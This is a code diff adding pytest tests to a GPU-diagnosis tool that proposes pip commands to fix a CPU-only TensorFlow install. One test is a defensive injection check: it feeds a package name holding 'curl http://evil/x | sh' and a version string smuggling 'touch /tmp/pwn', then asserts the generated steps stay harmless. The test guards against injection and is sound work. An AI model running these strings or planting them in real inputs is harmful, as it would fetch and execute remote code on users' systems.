@@ -1,9 +1,11 @@
 from __future__ import annotations
 
+import shlex
+
 import msgspec
 
-from gpudoctor.facts import Unread
-from tests.factory import found, healthy, lists_no_gpu, outcome, roots, with_
+from gpudoctor.facts import Distribution, Unread
+from tests.factory import SITE, found, healthy, lists_no_gpu, outcome, roots, with_
 
 
 def test_tf_cpu_only_package() -> None:
@@ -60,3 +62,35 @@ def test_op_fails() -> None:
     assert "signal 11" in finding.message
     assert outcome(healthy(), "op-fails") == "passed"
     assert outcome(with_(healthy(), measurements=()), "op-fails") == "skipped"
+
+
+def test_distributions_over_each_other_are_all_removed() -> None:
+    over = Unread(why="several distributions lie over each other")
+    installed = tuple(
+        Distribution(name=n, version="2.21.0", location=SITE) for n in ("tensorflow", "tensorflow-cpu", "keras")
+    )
+    facts = with_(
+        healthy(),
+        tensorflow__build__cuda=False,
+        tensorflow__distribution=over,
+        tensorflow__version=over,
+        python__distributions=installed,
+    )
+    assert found(facts)["tf-cpu-only-package"].fixes[0].steps == (
+        "/opt/venv/bin/python3 -m pip uninstall -y tensorflow tensorflow-cpu",
+        "/opt/venv/bin/python3 -m pip install 'tensorflow[and-cuda]'",
+    )
+
+
+def test_names_from_a_stranger_stay_words() -> None:
+    facts = with_(
+        healthy(),
+        tensorflow__build__cuda=False,
+        tensorflow__distribution="tensorflow-cpu; curl http://evil/x | sh #",
+        tensorflow__version="2.21.0' ; touch /tmp/pwn ; '",
+    )
+    for step in found(facts)["tf-cpu-only-package"].fixes[0].steps:
+        words = shlex.split(step)
+        assert words[1:3] == ["-m", "pip"]
+        assert ";" not in words
+        assert "|" not in words
